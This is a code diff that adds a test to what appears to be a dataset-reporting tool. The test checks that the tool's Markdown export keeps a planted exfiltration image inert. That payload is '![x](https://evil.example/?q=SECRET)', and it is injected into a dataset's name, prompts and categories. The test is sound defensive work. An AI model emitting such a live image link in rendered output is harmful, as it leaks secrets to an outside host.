@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 
 import numpy as np
 
@@ -65,3 +66,22 @@ def test_report_profile_with_the_score(tmp_path, capsys):
     assert main(["--db", str(db), "report", "-o", str(out), "--profile", "eval",
                  "--profile-dimension", "factuality"]) == 2
     assert "'--profile-dimension'" in capsys.readouterr().err
+
+
+def test_profile_markdown_has_no_live_link_or_image_from_store_text(tmp_path):
+    """An exfiltration image in a dataset's prompts, categories and name stays inert in the Markdown export.
+
+    Prompts reach the Markdown only as topic terms (alphabetic words), so the name is the live path."""
+    exfil = "![x](https://evil.example/?q=SECRET)"
+    s = Store(f"sqlite:///{tmp_path / 'r.db'}")
+    rng = np.random.default_rng(0)
+    add_dataset(s, "eval", prompts(rng, {"cooking": 8, "code": 8}))
+    pairs = prompts(rng, {"cooking": 4, "finance": 8})
+    items = [R.Item(id=R.Item.make_id(exfil, str(k), None, None), dataset=exfil, external_id=str(k),
+                    prompt=f"{p} {exfil}", category=exfil, language="en") for k, (_, p) in enumerate(pairs)]
+    s.add([R.Dataset(name=exfil), *items])
+    report = build_report(s, profile=ProfileRequest("eval", exfil, ProfileSettings(topics=None)))
+    md = to_markdown(report)
+    assert "Data profile" in md and "evil.example" in md  # the name is shown...
+    assert not re.search(r"(?<!\\)\[[^\]]*(?<!\\)\]\(", md)  # ...but no unescaped [text]( : no live image/link
+    s.close()
